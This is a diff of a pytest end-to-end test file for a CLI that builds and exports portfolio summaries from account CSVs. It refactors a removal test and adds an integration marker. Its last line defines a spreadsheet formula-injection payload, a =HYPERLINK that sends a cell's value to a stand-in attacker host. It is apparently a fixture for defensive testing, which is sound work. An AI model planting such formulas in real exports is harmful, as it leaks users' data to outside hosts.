@@ -14,7 +14,8 @@ from pathlib import Path
 
 import pytest
 
-pytestmark = pytest.mark.e2e
+# The CLI starts its own local stack: these need one as much as integration tests do.
+pytestmark = [pytest.mark.e2e, pytest.mark.integration]
 
 REPO = Path(__file__).resolve().parents[2]
 EXAMPLES = REPO / "examples"
@@ -95,16 +96,25 @@ def test_remove_retracts_the_input_and_what_derives_from_it(home):
     client = example_clients()[0]
     day = sorted(p.name for p in (EXAMPLES / client).glob("accounts_*.csv"))[-1]
     date = day.removeprefix("accounts_").removesuffix(".csv")
+
+    def summary() -> list[dict]:
+        export = cli(
+            home, "export", "portfolio-summary", "--client", client, "--date", date,
+            "--format", "json",
+        )  # fmt: skip
+        assert export.returncode == 0, export.stderr
+        return json.loads(export.stdout)
+
+    # The drop is in place (whichever test ran before), so the removal has outputs to retract.
+    ran = cli(home, "run", str(EXAMPLES / client), "--client", client, "--json")
+    assert ran.returncode == 0, ran.stderr
+    assert summary() != []
     result = cli(home, "remove", day, "--client", client, "--json")
     assert result.returncode == 0, result.stderr
     items = {i["sort_key"]: i for i in json.loads(result.stdout[result.stdout.index("[") :])}
     assert items[date]["account_persisted"] is False
     assert items[date]["relationship_transformer_done"] is False
-    export = cli(
-        home, "export", "portfolio-summary", "--client", client, "--date", date, "--format", "json"
-    )
-    assert export.returncode == 0, export.stderr
-    assert json.loads(export.stdout) == []
+    assert summary() == []
 
 
 HOSTILE_LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
